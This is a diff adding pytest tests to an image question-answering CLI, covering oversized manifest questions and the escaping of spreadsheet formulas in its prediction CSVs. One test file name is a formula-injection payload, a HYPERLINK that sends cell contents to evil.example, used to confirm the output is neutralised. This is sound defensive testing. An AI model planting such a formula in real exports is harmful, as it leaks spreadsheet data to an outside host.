@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import json
 import os
+import re
 import stat
 import subprocess
 import sys
@@ -133,6 +134,59 @@ def test_predict_reads_a_manifest_with_questions_and_a_saved_dataset(project, tm
 
     missing = runner.invoke(app, ["predict", str(tmp_path / "nope"), "-c", str(config)])
     assert "does not exist" in str(missing.exception)
+
+
+@pytest.mark.parametrize("kind", ["csv", "jsonl"])
+def test_predict_skips_a_row_with_a_5_mb_question_and_answers_the_others(project, tmp_path, kind):
+    """Issue 46 #14: one manifest row with a 5 MB question aborted `tamis predict` (rc 1, no CSV for any row)."""
+    import os
+
+    config, _, _ = project
+    answers = load_config(config).data.answers
+    names = photo_folder(tmp_path / "imgs")[:3]
+    rows = [{"image": f"imgs/{names[0]}", "question": "Which digit is it?"},
+            {"image": f"imgs/{names[1]}", "question": "why? " * 1_000_000},
+            {"image": f"imgs/{names[2]}", "question": ""}]
+    manifest = tmp_path / f"new.{kind}"
+    if kind == "csv":
+        with open(manifest, "w", newline="", encoding="utf-8") as f:
+            csv.DictWriter(f, fieldnames=["image", "question"]).writeheader()
+            csv.writer(f).writerows([r["image"], r["question"]] for r in rows)
+    else:
+        manifest.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    out = tmp_path / "out" / "predictions.csv"
+    proc = subprocess.run([str(Path(sys.executable).parent / "tamis"), "predict", str(manifest), "-c", str(config),
+                           "--out", str(out)], capture_output=True, text=True, timeout=300, env=dict(os.environ))
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    got = read_csv(out)
+    assert [r["file"] for r in got] == [r["image"] for r in rows]  # every row, in input order
+    assert got[0]["answer"] in answers and got[2]["answer"] in answers and not got[0]["error"]
+    assert got[1]["answer"] == "" and "4,999,999 characters, over the 4,000" in got[1]["error"]
+    assert len(got[1]["question"]) < 300  # the CSV does not carry the 5 MB back out
+    assert "skipped imgs/" in proc.stderr and "2 images answered, 1 skipped" in proc.stdout
+    rejected = read_csv(out.with_name("predictions.rejected.csv"))
+    assert [(r["file"], r["reason"]) for r in rejected] == [(got[1]["file"], got[1]["error"])]
+    assert str(out.with_name("predictions.rejected.csv")) in proc.stdout
+
+
+def test_predictions_csv_cells_never_start_a_formula(tmp_path):
+    """Issue 46 #16: predictions.csv wrote a file name like =HYPERLINK(…) raw (spreadsheet formula injection)."""
+    from pipeline.csvcells import FORMULA_START
+    from pipeline.predict import Prediction, write_predictions
+
+    name = '=HYPERLINK("evil.example?c="&A1,"click").png'
+    preds = [Prediction(name, "+what is it?", "@cat", 0.9, "round 1: adapter", mean_logprob=-0.105361),
+             Prediction("-x.png", "q", None, None, "round 1: adapter", error="cannot decode: =bad")]
+    files = write_predictions(preds, tmp_path / "predictions.csv")
+    for path in (files.csv, files.rejected):
+        with open(path, newline="", encoding="utf-8") as f:
+            cells = [c for row in csv.reader(f) for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-?[\d.]+", c)], path
+    got = read_csv(files.csv)
+    assert got[0]["file"] == "'" + name and got[0]["answer"] == "'@cat" and got[0]["question"] == "'+what is it?"
+    assert got[0]["mean_logprob"] == "-0.105361"  # a number stays a number
+    assert read_csv(files.rejected) == [{"file": "'-x.png", "reason": "cannot decode: =bad"}]
+    assert json.loads(files.jsonl.read_text().splitlines()[0])["file"] == name  # JSON is no spreadsheet: as is
 
 
 # Plain transformers in a fresh interpreter: tamis's packages cannot be imported (the editable install's path
